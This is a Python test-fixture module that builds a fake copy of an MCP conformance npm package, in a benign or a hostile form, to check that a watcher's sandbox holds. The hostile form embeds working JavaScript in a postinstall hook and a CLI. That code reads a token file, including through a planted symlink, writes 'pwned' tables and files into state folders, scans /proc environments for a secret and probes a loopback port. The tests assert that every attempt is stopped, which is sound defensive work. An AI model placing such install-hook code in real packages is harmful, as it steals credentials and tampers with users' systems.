"""A conformance-suite package of our own making, benign or hostile, shaped like the real one.

The real `@modelcontextprotocol/conformance` ships `dist/index.js` (its `bin`, an ES module) and
`requirements/<set>.yaml`, and is run as `node dist/index.js server --url URL --requirements SET -o DIR`. Ours
does what the watcher needs of it: it asks the server under test one MCP request and writes one
`server-<scenario>-<stamp>/checks.json` per scenario its set lists (SUCCESS when the server answered).

A hostile version also attacks, as a suite version published by someone else could: its `postinstall` (run by
npm at install) and its CLI (run against every server) try to read the Slack token file (directly, and through a
link planted in its own files), read the config, create a table in the state database, write into the state,
runs and environments folders, find a host process's secret in /proc, and reach a service on the host's loopback.
Each writes what it managed into a mark in the one folder it may write (`attack-postinstall.json` in its install
folder, `attack-cli.json` in its output folder), which the tests read back before checking the effects.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from watcher.suites.build import toolchain

PACKAGE = "@modelcontextprotocol/conformance"
STAMP = "2026-12-01T10-00-00-000Z"
ATTACKS = (
    "token",
    "token_link",
    "config",
    "state_db",
    "state_folder",
    "runs",
    "envs",
    "host_proc",
    "host_loopback",
)
"""What every hostile part tries (the CLI also reads the link its postinstall planted: `planted_link`)."""


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: the deployment's files and a host process holding a secret in its environment."""

    token: Path
    config: Path
    db: Path
    runs: Path
    envs: Path
    host_pid: int
    canary: str
    """A value only the host process's environment holds."""
    host_port: int
    """A service on the host's loopback."""

    def to_json(self) -> str:
        return json.dumps(
            {
                "TOKEN": str(self.token),
                "CONFIG": str(self.config),
                "DB": str(self.db),
                "STATE": str(self.db.parent),
                "RUNS": str(self.runs),
                "ENVS": str(self.envs),
                "HOST_PID": self.host_pid,
                "CANARY": self.canary,
                "HOST_PORT": self.host_port,
            }
        )


ATTACK_JS = """
const REPORT = {{ ran: true, pid: process.pid, uid: process.getuid() }};
async function attempt(name, fn) {{
  try {{ REPORT[name] = "DONE: " + String(await fn()).slice(0, 200); }}
  catch (e) {{ REPORT[name] = "STOPPED: " + String(e && e.message).slice(0, 200); }}
}}
async function attack(T, mine) {{
  await attempt("token", () => fs.readFileSync(T.TOKEN, "utf8"));
  await attempt("token_link", () => {{
    const link = path.join(mine, "token-link");
    try {{ fs.unlinkSync(link); }} catch {{}}
    fs.symlinkSync(T.TOKEN, link);
    return fs.readFileSync(link, "utf8");
  }});
  await attempt("config", () => fs.readFileSync(T.CONFIG, "utf8"));
  await attempt("state_db", async () => {{
    const {{ DatabaseSync }} = await import("node:sqlite");
    new DatabaseSync(T.DB).exec("create table pwned (x text)");
    return "table written";
  }});
  await attempt("state_folder", () => {{ fs.writeFileSync(path.join(T.STATE, "pwned.txt"), "x"); return "written"; }});
  await attempt("runs", () => {{ fs.writeFileSync(path.join(T.RUNS, "pwned.txt"), "x"); return "written"; }});
  await attempt("envs", () => {{ fs.writeFileSync(path.join(T.ENVS, "pwned.txt"), "x"); return "written"; }});
  await attempt("host_proc", () => {{
    let seen = 0;
    for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {{
      seen += 1;
      try {{ if (fs.readFileSync("/proc/" + pid + "/environ", "latin1").includes(T.CANARY)) return "found in " + pid; }}
      catch {{}}
    }}
    throw new Error("the secret is in no environment of the " + seen + " processes in sight");
  }});
  await attempt("host_loopback", () => new Promise((ok, no) => {{
    const s = net.connect(T.HOST_PORT, "127.0.0.1", () => {{ s.destroy(); ok("connected"); }});
    s.on("error", no);
    setTimeout(() => no(new Error("no answer")), 3000);
  }}));
}}
"""

CLI_JS = """#!/usr/bin/env node
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import {{ fileURLToPath }} from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url));
const args = process.argv.slice(2);
const opt = (name) => {{ const i = args.indexOf(name); return i >= 0 ? args[i + 1] : undefined; }};
const out = opt("-o"), url = opt("--url");
const set = opt("--requirements") ?? opt("--spec-version");
const listed = fs.readFileSync(path.join(here, "..", "requirements", set + ".yaml"), "utf8");
const scenarios = [...listed.matchAll(/^  - (\\S+)$/gm)].map((m) => m[1]);
const T = {targets};
{attack_js}
if (T) {{
  await attack(T, out);
  await attempt("planted_link", () => fs.readFileSync(path.join(here, "token-link"), "utf8"));
  fs.writeFileSync(path.join(out, "attack-cli.json"), JSON.stringify(REPORT));
}}
let reached;
try {{
  const answer = await fetch(url, {{
    method: "POST",
    headers: {{ "content-type": "application/json", accept: "application/json, text/event-stream" }},
    body: JSON.stringify({{ jsonrpc: "2.0", id: 1, method: "initialize", params: {{}} }}),
    signal: AbortSignal.timeout(10000),
  }});
  reached = {{ ok: answer.ok, status: answer.status, body: (await answer.text()).slice(0, 200) }};
}} catch (e) {{
  reached = {{ ok: false, error: String(e && (e.cause || e.message)) }};
}}
fs.writeFileSync(path.join(out, "reached.json"), JSON.stringify({{ url, ...reached }}));
for (const scenario of scenarios) {{
  const dir = path.join(out, "server-" + scenario + "-{stamp}");
  fs.mkdirSync(dir, {{ recursive: true }});
  const check = {{ id: "reached-server", name: "reached-server", description: "the server answered",
                  status: reached.ok ? "SUCCESS" : "FAILURE", timestamp: "t" }};
  if (!reached.ok) check.errorMessage = "no answer from " + url + ": " + (reached.error || reached.status);
  fs.writeFileSync(path.join(dir, "checks.json"), JSON.stringify([check]));
}}
process.exit(reached.ok ? 0 : 1);
"""

POSTINSTALL_JS = """
const fs = require("fs"), net = require("net"), path = require("path");
const T = {targets};
{attack_js}
attack(T, path.join(__dirname, "dist")).then(() => {{
  fs.writeFileSync(path.join(process.env.INIT_CWD || __dirname, "attack-postinstall.json"), JSON.stringify(REPORT));
}});
"""


def write_suite(folder: Path, version: str, sets: dict[str, list[str]], targets: Targets | None = None) -> Path:
    """The package's tree (as `npm pack` takes it, or as installed under node_modules/): benign without
    `targets`, hostile with them (a postinstall, and the attacks in its CLI)."""
    (folder / "dist").mkdir(parents=True, exist_ok=True)
    (folder / "requirements").mkdir(exist_ok=True)
    aimed = targets.to_json() if targets else "null"
    cli = CLI_JS.format(targets=aimed, attack_js=ATTACK_JS.format() if targets else "", stamp=STAMP)
    (folder / "dist" / "index.js").write_text(cli, encoding="utf-8")
    for name, scenarios in sets.items():
        lines = "".join(f"  - {scenario}\n" for scenario in scenarios)
        (folder / "requirements" / f"{name}.yaml").write_text(f"server:\n{lines}", encoding="utf-8")
    manifest: dict[str, object] = {
        "name": PACKAGE,
        "version": version,
        "type": "module",
        "bin": {"conformance": "dist/index.js"},
        "files": ["dist", "requirements"],
    }
    if targets is not None:
        (folder / "postinstall.cjs").write_text(
            POSTINSTALL_JS.format(targets=aimed, attack_js=ATTACK_JS.format()), encoding="utf-8"
        )
        manifest["files"] = ["dist", "requirements", "postinstall.cjs"]
        manifest["scripts"] = {"postinstall": "node postinstall.cjs"}
    (folder / "package.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    return folder


def pack(folder: Path, dest: Path) -> Path:
    """A real `npm pack` tarball of the package's tree."""
    dest.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        [*toolchain.npm_command(), "pack", "--silent", "--pack-destination", str(dest)],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
        env={"PATH": f"{toolchain.node_bin_dir()}{os.pathsep}{os.environ.get('PATH', '')}", "HOME": str(dest)},
    )
    return dest / done.stdout.strip().splitlines()[-1]


NODE_SERVER_JS = """
const http = require("http");
const port = Number(process.argv[process.argv.indexOf("--port") + 1]);
http.createServer((req, res) => {
  let body = "";
  req.on("data", (chunk) => (body += chunk));
  req.on("end", () => {
    res.writeHead(200, { "content-type": "application/json" });
    const result = { served_by: process.env.SERVER_NAME, host: req.headers.host };
    res.end(JSON.stringify({ jsonrpc: "2.0", id: 1, result }));
  });
}).listen(port, "127.0.0.1");
"""


def node_server(folder: Path, name: str) -> dict[str, object]:
    """A server of team-declared build (`language: other`), on Node's own http: it answers every request."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "server.js").write_text(NODE_SERVER_JS, encoding="utf-8")
    return {
        "name": name,
        "sdk": "python",
        "language": "other",
        "path": str(folder),
        "transport": "http",
        "start": ["node", "server.js", "--port", "{port}"],
        "env": {"SERVER_NAME": name},
        "baseline_sdk_version": "2.3.0",
        "requirements": ["2025-11-25"],
        "timeouts": {"install": 120, "start": 30, "suite": 60, "snapshot": 30},
    }


@contextlib.contextmanager
def host_service() -> Iterator[int]:
    """A service listening on the host's loopback (the health port, a local fake): its port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        yield int(listener.getsockname()[1])
    finally:
        listener.close()


@contextlib.contextmanager
def host_secret() -> Iterator[tuple[int, str]]:
    """A process of the host with a secret in its environment, as the watcher holds its own: (pid, secret)."""
    canary = "canary-" + secrets.token_hex(8)
    proc = subprocess.Popen(["sleep", "600"], env={"PATH": "/usr/bin:/bin", "MCP_WATCHER_TEST_SECRET": canary})
    try:
        yield proc.pid, canary
    finally:
        proc.kill()
        proc.wait()


def read_mark(path: Path) -> dict[str, str]:
    """A hostile part's mark: proof that it ran, and what it managed."""
    assert path.is_file(), f"the hostile code left no mark at {path}: it did not run"
    mark: dict[str, str] = json.loads(path.read_text(encoding="utf-8"))
    assert mark.get("ran") is True, mark
    return mark


def assert_stopped(mark: dict[str, str], *extra: str) -> None:
    """Every attack of the mark failed."""
    for name in (*ATTACKS, *extra):
        assert str(mark.get(name, "")).startswith("STOPPED"), (name, mark)
